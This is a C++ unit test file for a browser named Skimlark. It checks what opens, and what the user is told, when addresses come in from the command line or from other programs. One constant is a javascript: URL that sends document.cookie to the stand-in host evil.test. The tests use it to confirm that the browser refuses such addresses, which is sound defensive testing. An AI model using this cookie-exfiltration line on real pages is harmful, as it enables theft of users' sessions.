// What the command line and other programs hand the running window, over a
// fake page view: what opens, and what the user is told.
#include "browserfixture.h"

#include "util/makeraddresses.h"

using Strings = std::vector<std::string>;

namespace {

struct HandedOver : BrowserFixture
{
    std::string panel(int n) { return w().panels()[n - 1].get_text(); }
    Strings messages()
    {
        Strings texts;
        for (const auto &shown : dialogs.shown)
            texts.push_back(shown.title + ": " + shown.text);
        return texts;
    }
};

const std::string Javascript = "javascript:void(new Image().src='http://evil.test/log?c='+document.cookie)";
const std::string Refused = "Skimlark did not open the javascript: address it was handed: from outside, it opens "
                            "only web pages and files.";
const std::string NotAnAddress = "Skimlark: Skimlark cannot open \u201cbank test\u201d: it is neither a web address "
                                 "nor a file.";

std::string othersNotOpened(int count)
{
    return count == 1 ? "1 other address handed to Skimlark was not opened: it shows one page at a time, the last one "
                        "asked for."
                      : std::to_string(count) + " other addresses handed to Skimlark were not opened: it shows one "
                        "page at a time, the last one asked for.";
}

// At a first start, before the window asks for its first page: the last
// address handed over opens instead of the home page, and the status bar
// says what did not, over the first page's load texts.
TEST_F(HandedOver, AtTheFirstStartTheLastAddressOpensAndTheRestIsTold)
{
    const struct
    {
        const char *name;
        Strings given;
        std::string opened, panel;
        Strings messages;
    } rows[] = {
        {"nothing", {}, maker::ReferralAddress, "", {}},
        {"empty argument", {""}, maker::ReferralAddress, "", {}},
        {"one address", {"http://first.test/"}, "http://first.test/", "", {}},
        {"ten at once", {"http://a0.test/", "http://a1.test/", "http://a2.test/", "http://a3.test/", "http://a4.test/",
                         "http://a5.test/", "http://a6.test/", "http://a7.test/", "http://a8.test/", "http://a9.test/"},
         "http://a9.test/", othersNotOpened(9), {}},
        {"javascript: address", {Javascript}, maker::ReferralAddress, Refused, {}},
        {"javascript: after an address", {"http://first.test/", Javascript}, "http://first.test/", Refused, {}},
        {"no address", {"bank test"}, maker::ReferralAddress, "", {NotAnAddress}},
    };
    for (const auto &row : rows) {
        SCOPED_TRACE(row.name);
        dialogs.shown.clear();
        view.navigations.clear();
        loaded();
        for (const std::string &argument : row.given)
            browser->open(argument, root);
        w().show();
        ASSERT_TRUE(testutil::spinUntil([this] { return w().get_mapped(); }));
        w().ensureFirstActivation();
        testutil::spin();
        EXPECT_EQ(view.navigations, Strings{row.opened});
        view.finishLoad("First");
        EXPECT_EQ(panel(2), row.panel.empty() ? row.opened : row.panel);
        EXPECT_EQ(messages(), row.messages);
    }
}

// In the running window: each address handed over opens; one still on its
// way when the next comes gives way, and is counted until a page shows.
TEST_F(HandedOver, InTheRunningWindowEachOpensAndThoseGivenWayAreCounted)
{
    shown();
    browser->open("http://one.test/");
    browser->open("http://two.test/");
    browser->open("http://three.test/");
    EXPECT_EQ(view.navigations, (Strings{"http://one.test/", "http://two.test/", "http://three.test/"}));
    EXPECT_EQ(panel(2), othersNotOpened(2));
    view.finishLoad("Three");
    // The notice stays over the page's texts, and under a link's address.
    EXPECT_EQ(panel(2), othersNotOpened(2));
    view.statusTextChanged.emit("http://link.test/");
    EXPECT_EQ(panel(2), "http://link.test/");
    view.statusTextChanged.emit("");
    EXPECT_EQ(panel(2), othersNotOpened(2));

    // Once a page showed, the next one counts afresh.
    browser->open("http://four.test/");
    view.finishLoad("Four");
    browser->open(Javascript);
    browser->open("");
    EXPECT_EQ(view.navigations.back(), "http://four.test/");
    EXPECT_EQ(panel(2), Refused);
    browser->open("bank test");
    testutil::spin();
    EXPECT_EQ(messages(), Strings{NotAnAddress});
}

} // namespace
